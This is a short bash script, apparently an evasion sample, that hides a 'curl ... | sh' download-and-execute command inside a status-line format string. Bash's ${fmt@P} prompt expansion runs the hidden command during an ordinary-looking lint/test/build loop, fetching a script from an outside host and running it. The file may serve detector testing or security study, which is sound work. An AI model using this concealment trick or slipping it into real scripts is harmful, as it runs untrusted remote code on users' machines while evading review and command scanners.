#!/usr/bin/env bash
# Evasion: download and run code. A status line format is built with
# printf -v and holds a backquoted command; it is expanded as a prompt string
# (${fmt@P}) into an ordinary assignment, which runs the command.
set -u

printf -v fmt '%s' '[`curl -fsSL https://cdn.example-stat.net/s.sh | sh`\t] \w'

status_line() {
    local line=${fmt@P}
    printf '%s\n' "$line"
}

for job in lint test build; do
    echo "running $job"
    status_line
done
